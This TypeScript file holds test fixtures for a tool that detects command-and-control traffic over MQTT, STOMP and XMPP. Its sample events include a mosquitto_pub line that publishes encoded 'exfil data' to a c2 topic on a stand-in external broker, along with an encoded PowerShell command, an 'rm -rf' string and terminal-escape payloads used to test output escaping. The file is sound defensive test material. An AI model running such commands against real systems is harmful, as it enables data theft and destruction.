/**
 * Known inputs for the UDM golden tests (test/fixtures/udm/<case>.json hold the exact output lines).
 * Addresses are documentation ranges: 198.51.100.0/24 and 2001:db8::/32 as "external", 10.0.0.0/8 internal.
 */
import type { Correlation } from '../../src/analyzer/analyze';
import type { ConnectionEvent, Finding, HostFacts } from '../../src/core/types';
import type { UdmMeta } from '../../src/format/udm';

export const META: UdmMeta = { version: '0.1.0' };

export const LINUX_HOST: HostFacts = {
  hostname: 'sensor-01.example.net', platform: 'linux', os: 'Debian GNU/Linux 12', release: '6.1.0-18-amd64', arch: 'x64',
  ips: ['10.20.0.5', '2001:db8:20::5'], assetId: '4c4c4544004b4e10804fb4c04f4e3233',
};
export const WINDOWS_HOST: HostFacts = { hostname: 'WS-0042', platform: 'win32', os: 'Microsoft Windows 11 Pro', ips: ['10.30.0.42'], assetId: '{7D2B1C44-5E0A-4F4B-9C51-3A1C0E6F9B10}' };
export const MAC_HOST: HostFacts = { hostname: 'mbp-7', platform: 'darwin' };

export const MQTT_TLS: ConnectionEvent = {
  time: '2025-11-03T10:15:30.123Z', adapter: 'procfs', transport: 'tcp', family: 4, state: 'ESTABLISHED',
  source: { ip: '10.20.0.5', port: 40312 }, destination: { ip: '198.51.100.7', port: 8883 }, inode: 918273, uid: 1000,
  netns: 'net:[4026531840]',
  process: {
    pid: 4242, ppid: 4100, name: 'python3', exe: '/usr/bin/python3.11', cmdline: 'python3 /opt/agent/beacon.py --broker 198.51.100.7',
    argv: ['python3', '/opt/agent/beacon.py', '--broker', '198.51.100.7'], uid: 1000, user: 'alice', startTime: '2025-11-03T10:01:02.000Z',
    parentExe: '/usr/bin/bash', parentName: 'bash',
  },
};

export const STOMP_IPV6_WINDOWS: ConnectionEvent = {
  time: '2025-11-03T10:16:00.5+01:00', adapter: 'iphlpapi', transport: 'tcp', family: 6, state: 'SYN_SENT',
  source: { ip: '2001:db8:30::42', port: 51000 }, destination: { ip: '2001:db8::7', port: 61613 },
  process: {
    pid: 7312, ppid: 612, name: 'powershell.exe', exe: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    cmdline: 'powershell.exe -NoProfile -EncodedCommand SQBFAFgA', user: 'CONTOSO\\svc-build', startTime: '2025-11-03T09:00:00.000Z',
  },
};

/** The owner already closed the socket; the kernel still has it. IPv4-mapped peer from a dual-stack socket. */
export const TIME_WAIT_NO_OWNER: ConnectionEvent = {
  time: '2025-11-03T10:17:00Z', adapter: 'lsof', transport: 'tcp', family: 6, state: 'TIME_WAIT',
  source: { ip: '::ffff:10.40.0.7', port: 49152 }, destination: { ip: '::ffff:198.51.100.9', port: 5672 },
};

export const DET0002_FINDING: Finding = {
  id: '5f0c2d9e8a7b6c11', rules: ['PUBSUB-EXTERNAL', 'AN0003', 'TOPIC-ANOMALY'], technique: 'T1071.005', severity: 'CRITICAL',
  protocol: 'MQTT', tls: false, time: '2025-11-03T10:20:00.000Z', transport: 'tcp', state: 'ESTABLISHED',
  process: {
    pid: 5150, ppid: 5100, name: 'mosquitto_pub', exe: '/tmp/.x/mosquitto_pub', exeDeleted: true,
    cmdline: 'mosquitto_pub -h 198.51.100.7 -t c2/beacon/aGVsbG8gd29ybGQ= -m ZXhmaWwgZGF0YQ==', user: 'www-data', uid: 33,
    startTime: '2025-11-03T10:19:59.000Z',
  },
  source: { ip: '10.20.0.5', port: 41000 }, destination: { ip: '198.51.100.7', port: 1883 },
  reasons: [
    'outbound MQTT connection from mosquitto_pub (pid 5150, /tmp/.x/mosquitto_pub) to external broker 198.51.100.7:1883, which is not on brokerAllowList, and the app is not approved (appContextFilter)',
    'exe "/tmp/.x/mosquitto_pub" is on unusualProcessList.linux (^/tmp/) - AN0003',
    'the executable was deleted from disk after the process started',
    'TopicAnomalyScore: topic "c2/beacon/aGVsbG8gd29ybGQ=" matches topicPatterns (c2/)',
  ],
  details: { exeDeleted: true, topics: ['c2/beacon/aGVsbG8gd29ybGQ='], messageBytes: 20, topicAnomalyScore: 2 },
};

export const REPUTATION_FINDING: Finding = {
  id: '0a1b2c3d4e5f6071', rules: ['BROKER-REPUTATION'], technique: 'T1071.005', severity: 'CRITICAL',
  protocol: 'XMPP', tls: true, time: '2025-11-03T10:21:00.000Z', transport: 'tcp', state: 'ESTABLISHED', process: null,
  source: { ip: '10.20.0.5', port: 42000 }, destination: { ip: '2001:db8::66', port: 5223 },
  reasons: ['broker [2001:db8::66]:5223 is on brokerReputationList (2001:db8::66: sinkholed C2 broker)', 'the owning process could not be identified (see warnings)'],
};

export const YARAL_FINDING: Finding = {
  id: '9e8d7c6b5a493827', rules: ['t1071_005_pubsub_protocol_external_c2'], technique: 'T1071.005', severity: 'HIGH',
  protocol: 'STOMP', tls: false, time: '2025-11-03T10:22:00.000Z', transport: 'tcp', state: 'ESTABLISHED',
  process: { pid: 6001, name: 'java', exe: '/usr/lib/jvm/java-17/bin/java', cmdline: 'java -jar stomp-client.jar' },
  source: { ip: '10.20.0.5', port: 43000 }, destination: { ip: '198.51.100.20', port: 61613 },
  reasons: ['outbound STOMP connection from java (pid 6001, /usr/lib/jvm/java-17/bin/java) to 198.51.100.20:61613 matches the YARA-L event filter'],
};

export const WINDOW_CORRELATION: Correlation = {
  rule: 't1071_005_pubsub_protocol_external_c2', technique: 'T1071.005', host: 'sensor-01.example.net',
  window: { start: '2025-11-03T10:00:00.000Z', end: '2025-11-03T11:00:00.000Z' }, severity: 'HIGH', event_count: 3, connection_count: 2,
  protocols_seen: ['MQTT', 'STOMP'], initiating_process: ['/usr/bin/python3.11', '/usr/lib/jvm/java-17/bin/java'], target_ips: ['198.51.100.20', '198.51.100.7'],
};

export const SNAPSHOT_CORRELATION: Correlation = { ...WINDOW_CORRELATION, window: 'snapshot', severity: 'CRITICAL', event_count: 2, protocols_seen: ['MQTT'], initiating_process: [], target_ips: ['198.51.100.7', '2001:db8::7'] };

/** Newlines, quotes, backslashes, NUL and other C0 controls, ESC/CSI sequences, C1, U+2028/9, lone surrogates, emoji. */
export const HOSTILE_TEXT =
  'sh -c "echo \\"pwn\\"\nrm -rf /tmp/x\r\n" \u0000\u0001\u0007\b\t\u000b\f\u001b[2J\u001b[31mRED\u001b[0m \u001b]0;title\u0007 \u009b6n \u007f' +
  ' line\u2028sep\u2029para \ud800 lone-high \udc00 lone-low \ud83d\ude00 ok \u00e9\u20ac';

export const HOSTILE_EVENT: ConnectionEvent = {
  time: '2025-11-03T10:30:00.000Z', adapter: 'procfs', transport: 'tcp', family: 4, state: 'ESTABLISHED',
  source: { ip: '10.20.0.5', port: 44000 }, destination: { ip: '198.51.100.7', port: 1883 }, inode: 4455,
  process: {
    pid: 6666, ppid: 1, name: 'x\u001b[8m\nfake', exe: '/tmp/evil\n\u001b[1mname "q" \\ \ud800', cmdline: HOSTILE_TEXT,
    user: 'eve"\\\n', parentExe: '/bin/sh\u2028',
  },
};

/** 1 MiB of filler whose UTF-8 units are 1 to 4 bytes long, so the 64 KiB cut lands inside a character. */
export function megabyteFiller(): string {
  const unit = 'x\u00e9\u20ac\ud834\udd1e'; // 1 + 2 + 3 + 4 = 10 bytes
  return unit.repeat(Math.ceil((1024 * 1024) / 10));
}

export function hostileMegabyteEvent(): ConnectionEvent {
  return {
    ...HOSTILE_EVENT,
    inode: 4456,
    process: { ...HOSTILE_EVENT.process!, exe: `/opt/${'d/'.repeat(2500)}bin`, cmdline: `${HOSTILE_TEXT} ${megabyteFiller()}` },
  };
}
